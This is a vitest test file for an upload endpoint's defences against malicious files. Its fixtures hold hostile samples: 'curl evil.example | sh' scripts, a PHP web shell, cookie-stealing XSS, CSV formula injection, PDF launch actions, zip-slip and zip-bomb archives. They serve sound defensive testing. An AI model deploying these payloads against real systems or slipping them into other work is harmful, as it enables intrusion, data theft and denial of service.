import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { FILE_TYPES } from "../../src/lib/uploads/file-types";
import { ARCHIVE_LIMITS, contentThreats, universalThreats } from "../../src/lib/uploads/threats";
import { createUser } from "../helpers/auth";
import { call, problemOf } from "../helpers/http";
import {
  concat,
  elf,
  gif,
  gifWithComment,
  jpeg,
  jpegSegment,
  jpegWith,
  macho,
  noise,
  pdf,
  pdfWithObjectStream,
  pe,
  png,
  pngChunk,
  pngWith,
  webpWith,
  zip,
} from "../helpers/files";
import { eventually, securityEventsWhere } from "../helpers/security";

/**
 * These cases once ran super-linearly (a hang or a stack overflow). The bound only catches such a
 * blow-up, far above the linear cost even on a loaded machine; the real figures are in `npm run bench`.
 */
const HANG_GUARD_MS = 10_000;

function upload(headers: Record<string, string>, file: { bytes: Uint8Array; name: string; type: string }) {
  const form = new FormData();
  form.append("file", new File([file.bytes], file.name, { type: file.type }));
  return call("/v1/uploads", { method: "POST", headers, body: form });
}

async function uploadCount(ownerId: string): Promise<number> {
  const row = await env.DB.prepare("SELECT count(*) AS n FROM uploads WHERE owner_id = ?").bind(ownerId).first<{ n: number }>();
  return row!.n;
}

async function storedObjects(ownerId: string): Promise<number> {
  return (await env.FILES.list({ prefix: `uploads/${ownerId}/` })).objects.length;
}

const text = (value: string) => new TextEncoder().encode(value);

describe("415 unsupported_file_type: name, declared type and content must agree", () => {
  const cases: [string, () => Uint8Array, string, string][] = [
    ["an extension off the allow-list", png, "picture.bmp", "image/bmp"],
    ["SVG, not accepted at all", () => text('<svg xmlns="http://www.w3.org/2000/svg"></svg>'), "logo.svg", "image/svg+xml"],
    ["no extension", png, "picture", "image/png"],
    ["JPEG content named .png", jpeg, "photo.png", "image/png"],
    ["PNG content declared as image/jpeg", png, "photo.png", "image/jpeg"],
    ["a generic declared type", png, "photo.png", "application/octet-stream"],
    ["no declared type", png, "photo.png", ""],
    ["a PDF named .jpg", () => pdf(), "scan.jpg", "image/jpeg"],
    ["text named .png", () => text("hello"), "hello.png", "image/png"],
    ["JSON that does not parse", () => text("{ not json"), "data.json", "application/json"],
    ["binary named .txt", () => new Uint8Array([0x00, 0x01, 0x02, 0xff, 0xfe]), "notes.txt", "text/plain"],
    ["invalid UTF-8 named .csv", () => new Uint8Array([0x61, 0x2c, 0xc3, 0x28]), "data.csv", "text/csv"],
    ["a GIF sent as a PDF", gif, "doc.pdf", "application/pdf"],
  ];
  it.each(cases)("%s", async (_name, make, filename, type) => {
    const { user, headers } = await createUser();
    const res = await upload(headers, { bytes: make(), name: filename, type });
    expect(res.status).toBe(415);
    const problem = await problemOf(res);
    expect(problem.code).toBe("unsupported_file_type");
    expect(problem.allowedExtensions).toContain("png");
    expect(await uploadCount(user.id)).toBe(0);
    expect(await storedObjects(user.id)).toBe(0);
  });

  it("refuses a non-image as a question_image", async () => {
    const { headers } = await createUser();
    const form = new FormData();
    form.append("file", new File([pdf()], "a.pdf", { type: "application/pdf" }));
    form.append("purpose", "question_image");
    const res = await call("/v1/uploads", { method: "POST", headers, body: form });
    expect(res.status).toBe(415);
  });
});

describe("422 malicious_file, with a SecurityEvent, whatever the file is called", () => {
  const bombDirectory = () =>
    zip(
      Array.from({ length: 8 }, (_, i) => ({
        name: `layer-${i}.txt`,
        content: "0".repeat(1000),
        claimedSize: 50 * 1024 * 1024,
      })),
    );

  const cases: [string, () => Uint8Array | Promise<Uint8Array>, string, string, string][] = [
    ["an ELF executable named .txt", elf, "notes.txt", "text/plain", "executable_elf"],
    ["a PE executable named .png", pe, "holiday.png", "image/png", "executable_pe"],
    ["a Mach-O binary named .pdf", macho, "paper.pdf", "application/pdf", "executable_macho"],
    ["a shell script named .csv", () => text("#!/bin/sh\ncurl http://evil.example | sh\n"), "data.csv", "text/csv", "shebang_script"],
    [
      "a script behind a byte-order mark",
      () => text("\ufeff#! /usr/bin/env python\nimport os\n"),
      "notes.txt",
      "text/plain",
      "shebang_script",
    ],
    [
      "an HTML/PNG polyglot",
      () => concat(png(), "<html><script>alert(document.cookie)</script></html>"),
      "cat.png",
      "image/png",
      "embedded_markup",
    ],
    ["PHP inside a GIF comment", () => concat(gif(), "<?php system($_GET['c']); ?>"), "avatar.gif", "image/gif", "embedded_markup"],
    [
      "a JPEG carrying a script in its comment",
      () => concat(jpeg().subarray(0, 20), "<SCRIPT>fetch('//x')</SCRIPT>", new Uint8Array([0xff, 0xd9])),
      "a.jpg",
      "image/jpeg",
      "embedded_markup",
    ],
    [
      "a PDF with JavaScript",
      () => pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
      "form.pdf",
      "application/pdf",
      "pdf_active_content",
    ],
    [
      "a PDF that launches a program",
      () => pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
      "invoice.pdf",
      "application/pdf",
      "pdf_active_content",
    ],
    ["a double extension .php.png", png, "shell.php.png", "image/png", "double_extension"],
    ["a double extension .exe.jpg", jpeg, "invoice.exe.jpg", "image/jpeg", "double_extension"],
    ["a right-to-left override in the name", png, "photo\u202Egnp.exe.png", "image/png", "deceptive_filename"],
    [
      "a CSV formula that runs a program",
      () => text("name,score\n=cmd|' /C calc'!A0,1\n"),
      "scores.csv",
      "text/csv",
      "csv_formula_injection",
    ],
    ["a zip whose directory claims far more than it holds", bombDirectory, "bundle.zip", "application/zip", "archive_expands_too_far"],
    [
      "a zip with an extreme compression ratio",
      () => zip([{ name: "zeros.txt", content: new Uint8Array(ARCHIVE_LIMITS.ratioFloorBytes * 3) }]),
      "zeros.zip",
      "application/zip",
      "archive_compression_ratio",
    ],
    [
      "a zip whose entry inflates past its declared size",
      () => zip([{ name: "liar.txt", content: "A".repeat(200_000), claimedSize: 100 }]),
      "liar.zip",
      "application/zip",
      "archive_size_mismatch",
    ],
    [
      "a zip with overlapping entries (non-recursive bomb)",
      () =>
        zip([
          { name: "a.txt", content: "B".repeat(5000) },
          { name: "b.txt", content: "B".repeat(5000), shareDataWith: 0 },
        ]),
      "overlap.zip",
      "application/zip",
      "archive_overlapping_entries",
    ],
    [
      "a zip inside a zip",
      async () => zip([{ name: "inner.zip", content: await zip([{ name: "x.txt", content: "x" }]), store: true }]),
      "nested.zip",
      "application/zip",
      "archive_nested",
    ],
    [
      "a zip with path traversal",
      () => zip([{ name: "../../etc/cron.d/job", content: "* * * * * root sh" }]),
      "slip.zip",
      "application/zip",
      "archive_path_traversal",
    ],
    [
      "a zip carrying an executable",
      () => zip([{ name: "setup.exe", content: pe(), store: true }]),
      "tools.zip",
      "application/zip",
      "archive_dangerous_entry",
    ],
    ["an HTML page named .png", () => text("<html><body onload=alert(1)></body></html>"), "avatar.png", "image/png", "embedded_markup"],
    [
      "an SVG with script named .gif",
      () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      "icon.gif",
      "image/gif",
      "embedded_markup",
    ],
    [
      "a broken zip",
      () => concat(new Uint8Array([0x50, 0x4b, 0x03, 0x04]), "garbage"),
      "broken.zip",
      "application/zip",
      "archive_malformed",
    ],
  ];

  it.each(cases)("%s", async (_name, make, filename, type, reason) => {
    const { user, headers } = await createUser();
    const bytes = await make();
    const res = await upload(headers, { bytes, name: filename, type });
    expect(res.status, await res.clone().text()).toBe(422);
    const problem = await problemOf(res);
    expect(problem.code).toBe("malicious_file");
    expect(problem.reasons).toContain(reason);
    expect(await uploadCount(user.id)).toBe(0);
    expect(await storedObjects(user.id)).toBe(0);

    const event = await eventually(async () => (await securityEventsWhere({ type: "malicious_upload", actorId: user.id }))[0]);
    expect(event.severity).toBe("HIGH");
    expect(event.details.reasons).toContain(reason);
    expect(event.details.size).toBe(bytes.byteLength);
    expect(event.details.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(event.requestId).toBe(problem.requestId);

    const audit = await env.DB.prepare("SELECT status FROM audit_logs WHERE action = 'upload.created' AND actor_id = ?")
      .bind(user.id)
      .first();
    expect(audit).toEqual({ status: "FAILURE" });
  });

  it("refuses a zip whose compressed data is corrupt, without a server error", async () => {
    const { headers } = await createUser();
    const bytes = await zip([{ name: "a.txt", content: "hello world ".repeat(500) }]);
    for (let i = 30 + "a.txt".length; i < 30 + "a.txt".length + 12; i++) bytes[i] = 0xff;
    const res = await upload(headers, { bytes, name: "corrupt.zip", type: "application/zip" });
    expect(res.status).toBe(422);
    expect((await problemOf(res)).reasons).toEqual(expect.arrayContaining([expect.stringMatching(/^archive_(malformed|size_mismatch)$/)]));
  });

  it("does not mistake text that merely starts with MZ for an executable", async () => {
    const { headers } = await createUser();
    const res = await upload(headers, {
      bytes: text("MZ is my monogram, and this is a long enough note to have a header where a PE would\n".repeat(2)),
      name: "note.txt",
      type: "text/plain",
    });
    expect(res.status).toBe(201);
  });

  it("does not flag a CSV with ordinary formulas or negative numbers", async () => {
    const { headers } = await createUser();
    const res = await upload(headers, {
      bytes: text("a,b,total\n-1,2,=A2+B2\n@home,3,=SUM(A2:B3)\n"),
      name: "sheet.csv",
      type: "text/csv",
    });
    expect(res.status).toBe(201);
  });
});

/** Sends a file that must be refused as malicious for `reason`, leaving nothing stored. */
async function expectMalicious(bytes: Uint8Array, filename: string, type: string, reason: string) {
  const { user, headers } = await createUser();
  const res = await upload(headers, { bytes, name: filename, type });
  expect(res.status, await res.clone().text()).toBe(422);
  const problem = await problemOf(res);
  expect(problem.code).toBe("malicious_file");
  expect(problem.reasons).toContain(reason);
  expect(await uploadCount(user.id)).toBe(0);
  expect(await storedObjects(user.id)).toBe(0);
}

/** Writes a PDF name with every character as a `#xx` escape, as a reader accepts it. */
const escapedName = (name: string) => `/${[...name].map((ch) => `#${ch.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")}`;

describe("PDF active content is judged on decoded names, in the raw file and in object streams", () => {
  const ACTIVE = [
    "JavaScript",
    "JS",
    "Launch",
    "OpenAction",
    "AA",
    "URI",
    "SubmitForm",
    "GoToR",
    "ImportData",
    "EmbeddedFile",
    "RichMedia",
    "XFA",
  ];
  const value = (name: string) => (name === "JS" || name === "URI" ? "(x)" : "<< /S /GoTo >>");

  it.each(ACTIVE)("/%s, plain and #xx-escaped (first letter, every letter)", async (name) => {
    const firstEscaped = `/#${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
    for (const written of [`/${name}`, firstEscaped, escapedName(name)]) {
      await expectMalicious(pdf(`${written} ${value(name)} `), "doc.pdf", "application/pdf", "pdf_active_content");
    }
  });

  it("an action hidden in a compressed object stream", async () => {
    const hidden = await pdfWithObjectStream("<< /Type /Action /S /Launch /F (calc.exe) >>");
    expect(new TextDecoder("latin1").decode(hidden)).not.toContain("/Launch");
    await expectMalicious(hidden, "report.pdf", "application/pdf", "pdf_active_content");
    await expectMalicious(
      await pdfWithObjectStream(`<< ${escapedName("OpenAction")} 3 0 R >>`, { indirectLength: true }),
      "r.pdf",
      "application/pdf",
      "pdf_active_content",
    );
  });

  const uninspectable: [string, () => Promise<Uint8Array>][] = [
    [
      "an object stream behind a filter other than Flate",
      () => pdfWithObjectStream("<< /S /JavaScript >>", { filter: "[/ASCII85Decode /FlateDecode]" }),
    ],
    ["an object stream behind LZW", () => pdfWithObjectStream("<< /S /JavaScript >>", { filter: "/LZWDecode" })],
    [
      "an object stream with a predictor",
      () => pdfWithObjectStream("<< /Kids [] >>", { dictionary: "/DecodeParms << /Predictor 12 /Columns 4 >> " }),
    ],
    [
      "an object stream whose data is corrupt",
      () => pdfWithObjectStream("<< /Kids [] >>", { mangle: (data) => concat(data.subarray(0, 4), noise(data.byteLength - 4, 7)) }),
    ],
    [
      "an object stream whose data stops short",
      () => pdfWithObjectStream("<< /Kids [] >>".repeat(50), { mangle: (data) => data.subarray(0, data.byteLength - 6) }),
    ],
  ];
  it.each(uninspectable)("refuses %s as pdf_uninspectable", async (_name, make) => {
    await expectMalicious(await make(), "opaque.pdf", "application/pdf", "pdf_uninspectable");
  });
});

describe("images: markup anywhere outside their pixels, and what is appended after their end", () => {
  // None of these uses a marker long enough for the whole-file scan: only the image's structure finds them.
  const payloads = [
    '<p onclick="alert(document.cookie)">tap</p>',
    "<a id=x href=//evil.example/steal>open</a>",
    '<meta http-equiv="refresh" content="0;url=//x">',
    "<form action=//evil.example><button>go</button></form>",
    "<select autofocus onfocus=alert(1)>",
  ];
  const carriers: [string, (markup: string) => Uint8Array, string, string][] = [
    ["a PNG tEXt chunk", (m) => pngWith([pngChunk("tEXt", concat("Comment\0", m))]), "a.png", "image/png"],
    ["a PNG private chunk", (m) => pngWith([pngChunk("prVt", m)]), "a.png", "image/png"],
    ["a JPEG comment", (m) => jpegWith([jpegSegment(0xfe, m)]), "a.jpg", "image/jpeg"],
    [
      "JPEG XMP metadata",
      (m) => jpegWith([jpegSegment(0xe1, concat("http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>", m, "</x:xmpmeta>"))]),
      "a.jpg",
      "image/jpeg",
    ],
    ["a GIF comment", (m) => gifWithComment(m), "a.gif", "image/gif"],
    ["a WebP XMP chunk", (m) => webpWith("XMP ", m), "a.webp", "image/webp"],
  ];
  for (const [carrier, make, filename, type] of carriers) {
    it(`markup in ${carrier}`, async () => {
      for (const markup of payloads) await expectMalicious(make(markup), filename, type, "embedded_markup");
    });
  }

  const appended: [string, () => Uint8Array | Promise<Uint8Array>, string, string, string][] = [
    [
      "a zip after a PNG's IEND",
      async () => concat(png(), await zip([{ name: "run.txt", content: "x" }])),
      "a.png",
      "image/png",
      "appended_archive",
    ],
    [
      "a zip after padding after a JPEG's EOI",
      async () => concat(jpeg(), noise(300, 3), await zip([{ name: "a.txt", content: "x" }])),
      "a.jpg",
      "image/jpeg",
      "appended_archive",
    ],
    [
      "a gzip stream after a GIF's trailer",
      () => concat(gif(), new Uint8Array([0x1f, 0x8b, 0x08, 0x00]), noise(64, 5)),
      "a.gif",
      "image/gif",
      "appended_archive",
    ],
    [
      "a RAR archive after a WebP",
      () => concat(webpWith("EXIF", noise(40, 9)), "Rar!\u001a\u0007\u0001\u0000", noise(64, 11)),
      "a.webp",
      "image/webp",
      "appended_archive",
    ],
    [
      "a 7-Zip archive after a PNG",
      () => concat(png(), new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), noise(64, 13)),
      "a.png",
      "image/png",
      "appended_archive",
    ],
    ["an ELF executable after a JPEG", () => concat(jpeg(), elf()), "a.jpg", "image/jpeg", "appended_executable"],
    [
      "a PE executable deep inside data after a GIF",
      () => concat(gif(), noise(1000, 17), pe()),
      "a.gif",
      "image/gif",
      "appended_executable",
    ],
    ["a Mach-O binary after a PNG", () => concat(png(), macho()), "a.png", "image/png", "appended_executable"],
    [
      "a shell script after a PNG",
      () => concat(png(), "\n#!/bin/sh\ncurl evil.example | sh\n"),
      "a.png",
      "image/png",
      "appended_executable",
    ],
    [
      "an HTML fragment after a PNG",
      () => concat(png(), "<div style=position:fixed;inset:0>Session expired, sign in again</div>"),
      "a.png",
      "image/png",
      "appended_markup",
    ],
    [
      "markup after a JPEG's EOI",
      () => concat(jpeg(), noise(200, 19), "<p title=x onmouseover=alert(1)>hover me</p>"),
      "a.jpg",
      "image/jpeg",
      "appended_markup",
    ],
  ];
  it.each(appended)("%s", async (_name, make, filename, type, reason) => {
    await expectMalicious(await make(), filename, type, reason);
  });

  it("refuses an image whose structure breaks before its end as not being that type", async () => {
    const { headers } = await createUser();
    const truncated = png().subarray(0, 40);
    const noEnd = jpegWith([]).subarray(0, 24);
    const badChunk = concat(png().subarray(0, 33), new Uint8Array([0x7f, 0xff, 0xff, 0xff]), "IDAT");
    for (const [bytes, name, type] of [
      [truncated, "a.png", "image/png"],
      [noEnd, "a.jpg", "image/jpeg"],
      [badChunk, "b.png", "image/png"],
      [gif().subarray(0, 20), "a.gif", "image/gif"],
    ] as const) {
      const res = await upload(headers, { bytes, name, type });
      expect(res.status, name).toBe(415);
      expect((await problemOf(res)).code).toBe("unsupported_file_type");
    }
  });
});

describe("inspection cost stays linear on hostile files", () => {
  it("judges a CSV built to make a formula scan backtrack without blowing up", async () => {
    const csv = text(",=".repeat(1_000_000) + "|");
    const started = performance.now();
    expect(await contentThreats(FILE_TYPES.csv, csv)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
  });

  it("scans a 10 MB image of worst-case bytes for markup without blowing up", () => {
    const image = new Uint8Array(10 * 1024 * 1024).fill(0x3c); // every byte a '<': the worst case for candidates
    image.set(png());
    const started = performance.now();
    expect(universalThreats("big.png", image)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
  });

  it("walks a 10 MB PNG of random pixels and a large appended blob without blowing up or a false alarm", async () => {
    const image = concat(pngWith([], noise(10 * 1024 * 1024 - 200, 23)), noise(3 * 1024 * 1024, 29));
    const started = performance.now();
    expect(await contentThreats(FILE_TYPES.png, image)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
  });

  it("reads a PDF of many hostile shapes (names, keywords, fake object streams) in linear time", async () => {
    const hostile = concat(
      pdf(),
      "/#4".repeat(200_000),
      " 1 0 obj << /First 1 /Filter /FlateDecode >>\nstream\n".repeat(4000),
      "x".repeat(1_000_000),
      "\nendstream\n",
    );
    const started = performance.now();
    expect(await contentThreats(FILE_TYPES.pdf, hostile)).toEqual(["pdf_uninspectable"]);
    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
  });
});
